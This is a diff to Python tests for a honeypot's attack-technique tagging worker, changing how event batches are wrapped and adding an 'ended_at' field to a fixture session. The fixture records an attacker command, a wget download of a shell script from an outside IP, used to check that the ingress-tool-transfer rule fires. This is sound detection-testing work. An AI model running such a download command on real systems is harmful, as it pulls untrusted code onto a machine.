@@ -13,11 +13,13 @@ from decnet.ttp.factory import CompositeTagger
 from decnet.ttp.rules import RuleState
 from decnet.ttp.store.factory import get_rule_store
 from decnet.ttp.worker import TtpWorker
+from tests.wirekit import taken
 
 PAYLOAD = {
     "session_id": "s1",
     "attacker_ip": "203.0.113.1",
     "decky_id": "d",
+    "ended_at": 2.0,
     "commands": [{"id": "c1", "command_text": "wget http://203.0.113.9/x.sh", "ts": 1.0}],
 }
 
@@ -37,7 +39,7 @@ async def test_redelivery_tags_once_and_states_are_shared(tmp_path):
         for _ in range(2):
             async with repo.transaction() as bound:
                 tx = Transaction(bound)
-                await worker.handle([event], tx)
+                await worker.handle(taken([event]), tx)
                 topics.append([e.topic for e in tx.bus.events])
         assert "ttp.rule.fired.T1105" in topics[0]
         assert topics[1] == []
@@ -101,7 +103,7 @@ async def test_a_session_that_cannot_be_tagged_does_not_hold_up_the_sweep(tmp_pa
     handle = worker.sweep.handle
 
     async def fails_on_bad(batch, tx) -> None:
-        assert "bad" not in {event.payload["session_id"] for event in batch}
+        assert "bad" not in {one.event.payload["session_id"] for one in batch}
         await handle(batch, tx)
 
     worker.sweep.handle = fails_on_bad
